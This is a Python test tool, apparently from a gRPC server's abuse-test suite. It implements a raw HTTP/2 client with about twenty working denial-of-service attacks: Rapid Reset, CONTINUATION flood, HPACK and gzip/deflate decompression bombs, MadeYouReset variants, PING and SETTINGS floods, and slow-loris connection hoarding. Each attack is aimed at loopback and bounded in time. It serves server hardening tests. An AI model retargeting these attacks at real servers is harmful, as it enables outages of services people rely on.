"""A raw HTTP/2 client that abuses a gRPC server, for the abuse tests.

It speaks HTTP/2 frame by frame (frames built and parsed with hyperframe,
headers encoded with hpack: the h2 project's own libraries), which no gRPC
library would let a test do. Every attack runs on loopback, is bounded in
frames and in seconds, and stops by itself. All connections share one
thread, so an attack uses one core at most. A connection the server closes
is opened again, as an attacker would.

    python http2_attacker.py ATTACK --port PORT [--connections 8]
        [--seconds 6] [--max-streams N]

Attacks (ATTACKS below has one line on each): rapid-reset, stream-flood,
continuation-flood, big-header, hpack-bomb, hpack-bomb-unacked, ping-flood, settings-flood,
empty-data-flood, zero-window, never-read, gzip-bomb, deflate-bomb
(--inflated-mib), window-update-zero, data-after-end-stream,
data-past-window, tiny-timeout, one-byte-data (--message-kib), churn,
hoard (--connections idle connections held open). Prints one JSON line:
streams opened, bytes sent, connections opened, GOAWAYs received, and
what the server answered: RST_STREAMs by error code and grpc-status
values by code, and the commonest grpc-message texts.
"""

import argparse
import collections
import json
import resource
import socket
import struct
import sys
import time
import urllib.parse
import zlib
from pathlib import Path

from hpack import Decoder, Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

# Run as a script of its own: interop/ on sys.path for the shared harness.
sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from harness.wire import grpc_frame, varint  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
# Streams written per send: large enough to keep the socket busy, small
# enough that a connection's share of the loop stays short.
STREAMS_PER_WRITE = 64
# Client stream ids are odd and below 2**31.
LAST_STREAM_ID = 2**31 - 1
# RFC 9113's defaults, until the server's SETTINGS say otherwise.
DEFAULT_WINDOW = 65_535
DEFAULT_MAX_FRAME = 16_384


def grpc_request(method: str, authority: str, message: bytes, extra_headers=()):
    """The header block and the DATA payload of one gRPC request. Headers
    are never indexed, so the same block is valid on every stream."""
    headers = [
        NeverIndexedHeaderTuple(":method", "POST"),
        NeverIndexedHeaderTuple(":scheme", "http"),
        NeverIndexedHeaderTuple(":path", method),
        NeverIndexedHeaderTuple(":authority", authority),
        NeverIndexedHeaderTuple("content-type", "application/grpc"),
        NeverIndexedHeaderTuple("te", "trailers"),
    ] + [NeverIndexedHeaderTuple(name, value) for name, value in extra_headers]
    block = Encoder().encode(headers, huffman=False)
    return block, grpc_frame(message)


class Gone(Exception):
    """The connection is closed, or the attack's time is up."""


class Connection:
    """One attacking connection: a socket, the next stream id, and what
    the server sent that is not yet parsed."""

    def __init__(self, port: int, deadline: float, settings=None, reads: bool = True,
                 acks_pings: bool = True, acks_settings: bool = True):
        self.deadline = deadline
        # A client that never reads does not acknowledge anything either;
        # one that reads may still leave the server's PINGs or SETTINGS
        # unanswered.
        self.reads = reads
        self.acks_pings = acks_pings
        self.acks_settings = acks_settings
        self.pings = 0
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.sendall(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
        self.sock.setblocking(False)
        self.next_stream_id = 1
        self.inbound = bytearray()
        # Acknowledgements owed to the server, and whether a write is under
        # way (they wait for its end).
        self.owed = bytearray()
        self.sending = False
        self.goaways = 0
        # What the server answered: its header blocks decoded in order (an
        # HPACK decoder must see every block), grpc-status by value and
        # RST_STREAM by error code.
        self.decoder = Decoder()
        self.header_block = bytearray()
        self.statuses = collections.Counter()
        self.messages = collections.Counter()
        self.resets = collections.Counter()
        # The DATA payloads of the server's replies, in the order they came,
        # kept only when asked for (keep_replies): a flood's would be large.
        self.keep_replies = False
        self.replies = bytearray()
        # The server's flow-control windows for what this client sends.
        self.connection_window = DEFAULT_WINDOW
        self.initial_stream_window = DEFAULT_WINDOW
        self.stream_windows = {}
        self.max_frame = DEFAULT_MAX_FRAME

    def new_stream_id(self) -> int:
        stream_id = self.next_stream_id
        self.next_stream_id += 2
        return stream_id

    def answer(self) -> bool:
        """Reads what the server sent; acknowledges its SETTINGS and PINGs
        as a conforming client must. False once the server has closed. A
        client that never reads only checks that it may still write."""
        if not self.reads:
            return True
        # What came before the server closed (its GOAWAY, say) is parsed
        # all the same.
        open_ = True
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    open_ = False
                    break
                self.inbound += chunk
        except BlockingIOError:
            pass
        except OSError:
            open_ = False
        replies = []
        while len(self.inbound) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.inbound[:9]))
            if len(self.inbound) < 9 + length:
                break
            frame.parse_body(memoryview(self.inbound[9:9 + length]))
            del self.inbound[:9 + length]
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.apply_settings(frame.settings)
                if self.acks_settings:
                    replies.append(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                self.pings += 1
                if self.acks_pings:
                    replies.append(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
            elif isinstance(frame, GoAwayFrame):
                self.goaways += 1
            elif isinstance(frame, WindowUpdateFrame):
                if frame.stream_id == 0:
                    self.connection_window += frame.window_increment
                elif frame.stream_id in self.stream_windows:
                    self.stream_windows[frame.stream_id] += frame.window_increment
            elif isinstance(frame, DataFrame) and self.keep_replies:
                self.replies += frame.data
            elif isinstance(frame, RstStreamFrame):
                self.resets[frame.error_code] += 1
                self.stream_windows.pop(frame.stream_id, None)
            elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
                if "END_STREAM" in frame.flags:
                    self.stream_windows.pop(frame.stream_id, None)
                self.header_block += frame.data
                if "END_HEADERS" in frame.flags:
                    self.read_header_block()
        if not open_:
            return False
        self.owed += b"".join(replies)
        if self.owed and not self.sending:
            return self.send(b"")
        return True

    def apply_settings(self, settings: dict):
        window = settings.get(SettingsFrame.INITIAL_WINDOW_SIZE)
        if window is not None:
            delta = window - self.initial_stream_window
            self.initial_stream_window = window
            for stream_id in self.stream_windows:
                self.stream_windows[stream_id] += delta
        self.max_frame = settings.get(SettingsFrame.MAX_FRAME_SIZE, self.max_frame)

    def read_header_block(self):
        headers = self.decoder.decode(bytes(self.header_block), raw=True)
        self.header_block.clear()
        for name, value in headers:
            if name == b"grpc-status":
                self.statuses[int(value)] += 1
            elif name == b"grpc-message":
                self.messages[urllib.parse.unquote(value.decode())] += 1

    def open_stream(self, block: bytes, end_stream: bool = False) -> int:
        """Sends a request's header block on a new stream; its id."""
        stream_id = self.new_stream_id()
        self.stream_windows[stream_id] = self.initial_stream_window
        if not self.send(header_frames(stream_id, block, end_stream=end_stream)):
            raise Gone
        return stream_id

    def send_data(self, stream_id: int, payload: bytes, end_stream: bool = True,
                  frame_size: int = 0, wait: bool = True) -> bytes:
        """Sends `payload` on a stream as DATA frames of at most
        `frame_size` bytes (0: as large as the server allows), each within
        the server's windows, reading its WINDOW_UPDATEs while it waits for
        room; without `wait`, returns what did not fit instead. Stops early
        if the server resets the stream; raises Gone if it closes the
        connection or the attack's time is up."""
        view = memoryview(payload)
        while view:
            if stream_id not in self.stream_windows:
                return b""  # reset by the server
            # A window can be below zero: the server's SETTINGS may shrink
            # a stream's window below what was sent before they arrived.
            room = max(0, min(len(view), self.connection_window, self.stream_windows[stream_id]))
            if room == 0:
                if not wait:
                    return bytes(view)
                if time.monotonic() > self.deadline:
                    raise Gone
                time.sleep(0.001)
                if not self.answer():
                    raise Gone
                continue
            size = frame_size or self.max_frame
            chunk, view = view[:room], view[room:]
            last = END_STREAM if end_stream and not view else 0
            if size == 1:
                frames = one_byte_frames(stream_id, chunk, last)
            else:
                tail = (room - 1) // size * size
                frames = b"".join([raw_frame(DATA, 0, stream_id, bytes(chunk[i:i + size]))
                                   for i in range(0, tail, size)]
                                  + [raw_frame(DATA, last, stream_id, bytes(chunk[tail:]))])
            if not self.send(frames):
                raise Gone
            self.connection_window -= room
            if stream_id in self.stream_windows:  # not reset meanwhile
                self.stream_windows[stream_id] -= room
        return b""

    def send(self, data: bytes) -> bool:
        """Writes what the connection owes the server (acknowledgements),
        then all of `data`, waiting for room until the attack's deadline;
        False if the server has closed the connection or the deadline
        passed first. Acknowledgements owed while a write waits go out
        after it, at a frame boundary, never inside a frame."""
        self.sending = True
        try:
            pending = bytes(self.owed) + data
            self.owed.clear()
            while pending:
                if not self._write_all(pending):
                    return False
                pending = bytes(self.owed)
                self.owed.clear()
            return True
        finally:
            self.sending = False

    def _write_all(self, data: bytes) -> bool:
        view = memoryview(data)
        try:
            while view:
                if time.monotonic() > self.deadline:
                    return False
                try:
                    sent = self.sock.send(view)
                    view = view[sent:]
                except BlockingIOError:
                    time.sleep(0.005)
                    if not self.answer():
                        return False
                    if not self.reads:
                        # Blocked for good: the server has stopped reading
                        # a client that does not read.
                        return True
        except OSError:
            return False
        return True

    def close(self):
        self.sock.close()


GET_SEQUENCE_46 = ("/fibonacci.Fibonacci/GetSequence", b"\x08\x2e")
AT_INDEX = "/fibonacci.Fibonacci/AtIndex"


def junk_header_block(size: int) -> bytes:
    """`size` bytes of header block: literal `x-junk` fields, never
    indexed, 1000 bytes of value each."""
    field = Encoder().encode([NeverIndexedHeaderTuple("x-junk", "a" * 1000)], huffman=False)
    return (field * (size // len(field) + 1))[:size]


def header_frames(stream_id: int, block: bytes, end_stream: bool = False) -> bytes:
    """A header block as HEADERS and as many CONTINUATION frames as the
    default 16 KiB frame size needs."""
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)] or [b""]
    first_flags = ["END_STREAM"] if end_stream else []
    frames = [HeadersFrame(stream_id, chunks[0],
                           flags=first_flags + (["END_HEADERS"] if len(chunks) == 1 else []))]
    for index, chunk in enumerate(chunks[1:], start=2):
        frames.append(ContinuationFrame(stream_id, chunk,
                                        flags=["END_HEADERS"] if index == len(chunks) else []))
    return b"".join(frame.serialize() for frame in frames)


class Attack:
    """What one attack writes: `open` once per connection, then `batch` in
    a loop. Both return (bytes, streams opened)."""

    settings = None
    reads = True
    acks_settings = True
    streams_per_batch = STREAMS_PER_WRITE

    def __init__(self, port: int, **_):
        method, message = GET_SEQUENCE_46
        self.block, self.payload = grpc_request(method, f"127.0.0.1:{port}", message)

    def open(self, conn: Connection):
        return b"", 0

    def batch(self, conn: Connection, count: int):
        raise NotImplementedError


class RapidReset(Attack):
    """HEADERS, one DATA frame (a GetSequence(46) request) and RST_STREAM
    CANCEL, for new stream ids in a tight loop (CVE-2023-44487)."""

    def batch(self, conn, count):
        frames = []
        for _ in range(count):
            stream_id = conn.new_stream_id()
            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
            frames.append(DataFrame(stream_id, self.payload).serialize())
            frames.append(RstStreamFrame(stream_id, error_code=CANCEL).serialize())
        return b"".join(frames), count


class StreamFlood(Attack):
    """Streams opened (HEADERS, no END_STREAM) and never finished, far past
    MAX_CONCURRENT_STREAMS."""

    def batch(self, conn, count):
        frames = [HeadersFrame(conn.new_stream_id(), self.block, flags=["END_HEADERS"]).serialize()
                  for _ in range(count)]
        return b"".join(frames), count


class ContinuationFlood(Attack):
    """HEADERS without END_HEADERS, then CONTINUATION frames of junk header
    fields without end (CVE-2024-27316's kind)."""

    streams_per_batch = 1

    def open(self, conn):
        stream_id = conn.new_stream_id()
        conn.continued = stream_id
        return HeadersFrame(stream_id, self.block).serialize(), 1

    def batch(self, conn, count):
        frame = ContinuationFrame(conn.continued, junk_header_block(16384)).serialize()
        return frame * 8, 0


class BigHeader(Attack):
    """Requests each carrying one header of 1 MiB (HEADERS and
    CONTINUATIONs)."""

    streams_per_batch = 1

    def batch(self, conn, count):
        big = Encoder().encode([NeverIndexedHeaderTuple("x-big", "b" * (1 << 20))], huffman=False)
        return header_frames(conn.new_stream_id(), self.block + big, end_stream=True), 1


class HpackBomb(Attack):
    """A 4,000-byte header put in the HPACK dynamic table once per
    connection, then requests whose header blocks reference it 4,000 times
    (1 byte on the wire, 4 kB decoded, each)."""

    streams_per_batch = 1

    def open(self, conn):
        conn.encoder = Encoder()
        insert = conn.encoder.encode([("x-bomb", "c" * 4000)], huffman=False)
        frames = header_frames(conn.new_stream_id(), self.block + insert, end_stream=True)
        return frames, 1

    def batch(self, conn, count):
        # Index 62 is the newest entry of the dynamic table: 0x80 | 62.
        return header_frames(conn.new_stream_id(), self.block + b"\xbe" * 4000, end_stream=True), 1


class HpackBombUnacked(HpackBomb):
    """The HPACK bomb from a client that never acknowledges the server's
    SETTINGS, so never acknowledges the header-list limit they carry."""

    acks_settings = False


class PingFlood(Attack):
    """PING frames without end, from a client that never reads the
    acknowledgements."""

    reads = False

    def batch(self, conn, count):
        return PingFrame(0, b"12345678").serialize() * count, 0


class SettingsFlood(Attack):
    """SETTINGS frames without end, from a client that never reads the
    acknowledgements."""

    reads = False

    def batch(self, conn, count):
        return SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize() * count, 0


class EmptyDataFlood(Attack):
    """One stream opened, then empty DATA frames on it without end."""

    def open(self, conn):
        stream_id = conn.new_stream_id()
        conn.flooded = stream_id
        return HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize(), 1

    def batch(self, conn, count):
        return DataFrame(conn.flooded, b"").serialize() * count, 0


class ZeroWindow(Attack):
    """An initial window of 0 (the server may send no reply data), then
    whole GetSequence(46) requests on new streams, and never a
    WINDOW_UPDATE."""

    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}

    def batch(self, conn, count):
        frames = []
        for _ in range(count):
            stream_id = conn.new_stream_id()
            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
            frames.append(DataFrame(stream_id, self.payload, flags=["END_STREAM"]).serialize())
        return b"".join(frames), count


class NeverRead(ZeroWindow):
    """Whole GetSequence(46) requests on new streams with the usual
    window, on a socket that is never read."""

    settings = None
    reads = False


def raw_frame(frame_type: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    """A frame built by hand, for what hyperframe refuses to build (a
    WINDOW_UPDATE of 0) or builds too slowly (a million one-byte DATA
    frames)."""
    return len(payload).to_bytes(3, "big") + bytes([frame_type, flags]) \
        + stream_id.to_bytes(4, "big") + payload


DATA, WINDOW_UPDATE = 0x0, 0x8
END_STREAM = 0x1


def one_byte_frames(stream_id: int, payload: bytes, last_flags: int) -> bytes:
    """`payload` as one DATA frame per byte, the last with `last_flags`.
    Built by strided slice assignment, each of the ten byte positions of
    a frame at once: a frame at a time in Python took about 1.4 s per
    MiB, most of the attack's seconds, so the attack's rate depended on
    how busy the machine was."""
    header = raw_frame(DATA, 0, stream_id, b"\0")[:9]
    frames = bytearray(10 * len(payload))
    for position, value in enumerate(header):
        frames[position::10] = bytes([value]) * len(payload)
    frames[9::10] = payload
    frames[-6] = last_flags
    return bytes(frames)


def compressed_zeros(algorithm: str, inflated: int) -> bytes:
    """`inflated` zero bytes compressed as gRPC's gzip or deflate (zlib's
    format) would carry them, at the best ratio either allows (about
    1,000 to 1)."""
    wbits = 31 if algorithm == "gzip" else 15
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
    chunk = bytes(1 << 20)
    parts = [compressor.compress(chunk) for _ in range(inflated // len(chunk))]
    parts.append(compressor.compress(bytes(inflated % len(chunk))))
    parts.append(compressor.flush())
    return b"".join(parts)


class DecompressionBomb(Attack):
    """AtIndex requests each carrying one compressed message of zeros
    that inflates to --inflated-mib MiB, sent within the server's
    flow-control windows, one after another on each connection without
    waiting for the answers: a request its stream's window cuts short is
    finished as the window opens, while new ones go out, up to
    UNFINISHED_PER_CONNECTION at a time."""

    algorithm = "gzip"
    streams_per_batch = 1
    # Half the server's stream limit, so that no stream is refused.
    UNFINISHED_PER_CONNECTION = 50

    def __init__(self, port: int, inflated_mib: int = 256, **_):
        self.block, _ = grpc_request(AT_INDEX, f"127.0.0.1:{port}", b"",
                                     extra_headers=[("grpc-encoding", self.algorithm)])
        compressed = compressed_zeros(self.algorithm, inflated_mib << 20)
        # The gRPC prefix: compressed (1), then the length on the wire.
        self.payload = b"\x01" + len(compressed).to_bytes(4, "big") + compressed

    def open(self, conn):
        conn.unfinished = {}  # stream id: what its window has not let through yet
        return b"", 0

    def batch(self, conn, count):
        unfinished = conn.unfinished
        for stream_id, rest in list(unfinished.items()):
            rest = conn.send_data(stream_id, rest, wait=False)
            if rest:
                unfinished[stream_id] = rest
            else:
                del unfinished[stream_id]
        if len(unfinished) >= self.UNFINISHED_PER_CONNECTION:
            time.sleep(0.001)
            return b"", 0
        stream_id = conn.open_stream(self.block)
        rest = conn.send_data(stream_id, self.payload, wait=False)
        if rest:
            unfinished[stream_id] = rest
        return b"", 1


class GzipBomb(DecompressionBomb):
    algorithm = "gzip"


class DeflateBomb(DecompressionBomb):
    algorithm = "deflate"


class WholeRequests(Attack):
    """Whole GetSequence(46) requests (HEADERS, then the message with
    END_STREAM), each followed by what `after` adds on its stream."""

    def after(self, stream_id: int) -> bytes:
        return b""

    def batch(self, conn, count):
        frames = []
        for _ in range(count):
            stream_id = conn.new_stream_id()
            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
            frames.append(raw_frame(DATA, END_STREAM, stream_id, self.payload))
            frames.append(self.after(stream_id))
        return b"".join(frames), count


class WindowUpdateZero(WholeRequests):
    """MadeYouReset (CVE-2025-8671): a whole GetSequence(46) request, then
    a WINDOW_UPDATE of 0 on its stream, which the server must answer by
    resetting the stream; the handler it started must not outlive the
    reset unaccounted."""

    def after(self, stream_id):
        return raw_frame(WINDOW_UPDATE, 0, stream_id, bytes(4))


class DataAfterEndStream(WholeRequests):
    """MadeYouReset: a whole GetSequence(46) request, then one more DATA
    frame on its half-closed stream (a stream error, STREAM_CLOSED)."""

    def after(self, stream_id):
        return raw_frame(DATA, 0, stream_id, b"x")


class DataPastWindow(Attack):
    """MadeYouReset: a GetSequence(46) request followed by zeros up to
    exactly the stream's flow-control window, then one byte past it."""

    streams_per_batch = 1

    def batch(self, conn, count):
        stream_id = conn.open_stream(self.block)
        window = conn.stream_windows[stream_id]
        conn.send_data(stream_id, self.payload + bytes(max(0, window - len(self.payload))),
                       end_stream=False)
        return raw_frame(DATA, 0, stream_id, b"x"), 1


class TinyTimeout(WholeRequests):
    """Whole GetSequence(46) requests carrying `grpc-timeout: 1n`: every
    call's deadline has passed when it arrives, and the server cancels
    each itself."""

    def __init__(self, port: int, **_):
        method, message = GET_SEQUENCE_46
        self.block, self.payload = grpc_request(method, f"127.0.0.1:{port}", message,
                                                extra_headers=[("grpc-timeout", "1n")])


class OneByteData(Attack):
    """AtIndex(7) requests of --message-kib KiB (the value, then an
    unknown field of zeros the server skips), each sent as one-byte DATA
    frames within the server's windows: nine bytes of frame header per
    byte of message, for the server to put back together."""

    streams_per_batch = 1

    def __init__(self, port: int, message_kib: int = 1024, **_):
        filler = message_kib * 1024 - 16
        message = b"\x08\x07" + b"\x12" + varint(filler) + bytes(filler)
        self.block, self.payload = grpc_request(AT_INDEX, f"127.0.0.1:{port}", message)

    def batch(self, conn, count):
        conn.send_data(conn.open_stream(self.block), self.payload, frame_size=1)
        return b"", 1


ATTACKS = {
    "rapid-reset": RapidReset,
    "stream-flood": StreamFlood,
    "continuation-flood": ContinuationFlood,
    "big-header": BigHeader,
    "hpack-bomb": HpackBomb,
    "hpack-bomb-unacked": HpackBombUnacked,
    "ping-flood": PingFlood,
    "settings-flood": SettingsFlood,
    "empty-data-flood": EmptyDataFlood,
    "zero-window": ZeroWindow,
    "never-read": NeverRead,
    "gzip-bomb": GzipBomb,
    "deflate-bomb": DeflateBomb,
    "window-update-zero": WindowUpdateZero,
    "data-after-end-stream": DataAfterEndStream,
    "data-past-window": DataPastWindow,
    "tiny-timeout": TinyTimeout,
    "one-byte-data": OneByteData,
}


# How long the attacker keeps reading once it has stopped writing, for the
# server's answers to its last streams.
ANSWER_LINGER_S = 0.5


def run(attack: Attack, port: int, connections: int, seconds: float, max_streams: int) -> dict:
    """Runs `attack` on `connections` connections until `seconds` have
    passed or `max_streams` streams were opened."""
    deadline = time.monotonic() + seconds
    totals = {"streams": 0, "bytes": 0, "connections_opened": 0, "goaways": 0}
    statuses, messages, resets = collections.Counter(), collections.Counter(), collections.Counter()

    def retire(conn):
        totals["goaways"] += conn.goaways
        statuses.update(conn.statuses)
        messages.update(conn.messages)
        resets.update(conn.resets)
        conn.close()

    def connect():
        conn = Connection(port, deadline, settings=attack.settings, reads=attack.reads,
                          acks_settings=attack.acks_settings)
        totals["connections_opened"] += 1
        data, streams = attack.open(conn)
        if data and conn.send(data):
            totals["streams"] += streams
            totals["bytes"] += len(data)
        return conn

    opened = [connect() for _ in range(connections)]
    while time.monotonic() < deadline and totals["streams"] < max_streams:
        for index, conn in enumerate(opened):
            count = min(attack.streams_per_batch, max_streams - totals["streams"])
            alive = conn.next_stream_id + 2 * count < LAST_STREAM_ID and conn.answer()
            if alive:
                try:
                    data, streams = attack.batch(conn, count)
                    alive = conn.send(data)
                except Gone:
                    alive = False
            if alive:
                totals["streams"] += streams
                totals["bytes"] += len(data)
                continue
            retire(conn)
            try:
                opened[index] = connect()
            except OSError:
                time.sleep(0.01)
    # What the server answered to the last streams: read for a moment
    # more (the attack has stopped writing).
    linger = time.monotonic() + ANSWER_LINGER_S
    for conn in opened:
        conn.deadline = linger
        while time.monotonic() < linger and conn.reads and conn.answer():
            time.sleep(0.01)
        retire(conn)
    totals["statuses"] = {str(code): count for code, count in sorted(statuses.items())}
    totals["messages"] = dict(messages.most_common(4))
    totals["resets"] = {str(code): count for code, count in sorted(resets.items())}
    return totals


def churn(port: int, seconds: float, max_connections: int) -> dict:
    """Connections opened (preface and SETTINGS) and reset at once (a zero
    linger makes close send a TCP RST), one after another."""
    deadline = time.monotonic() + seconds
    opened = 0
    linger = struct.pack("ii", 1, 0)
    while time.monotonic() < deadline and opened < max_connections:
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        except OSError:
            time.sleep(0.01)
            continue
        sock.sendall(PREFACE + SettingsFrame(0).serialize())
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
        sock.close()
        opened += 1
    return {"streams": 0, "bytes": 0, "connections_opened": opened, "goaways": 0}


def hoard(port: int, seconds: float, connections: int) -> dict:
    """`connections` connections opened as fast as they are accepted, each
    sending the preface and SETTINGS and then nothing, all held until the
    time is up: an idle client multiplied, as a slow-loris attack does it,
    to take the server's file descriptors."""
    # The attacker needs a descriptor per connection too.
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, connections + 64)), hard))
    deadline = time.monotonic() + seconds
    held = []
    while time.monotonic() < deadline and len(held) < connections:
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=1)
            sock.sendall(PREFACE + SettingsFrame(0).serialize())
        except OSError:
            time.sleep(0.01)
            continue
        held.append(sock)
    opened = len(held)
    time.sleep(max(0.0, deadline - time.monotonic()))
    for sock in held:
        sock.close()
    return {"streams": 0, "bytes": 0, "connections_opened": opened, "goaways": 0}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=[*ATTACKS, "churn", "hoard"])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--seconds", type=float, default=6.0)
    parser.add_argument("--max-streams", type=int, default=5_000_000,
                        help="streams opened in all (churn: connections)")
    parser.add_argument("--inflated-mib", type=int, default=256,
                        help="gzip-bomb, deflate-bomb: what each message inflates to")
    parser.add_argument("--message-kib", type=int, default=1024,
                        help="one-byte-data: each request message's size")
    args = parser.parse_args()
    if args.attack == "churn":
        result = churn(args.port, args.seconds, args.max_streams)
    elif args.attack == "hoard":
        result = hoard(args.port, args.seconds, args.connections)
    else:
        attack = ATTACKS[args.attack](args.port, inflated_mib=args.inflated_mib,
                                      message_kib=args.message_kib)
        result = run(attack, args.port, args.connections, args.seconds,
                     args.max_streams)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    sys.exit(main())
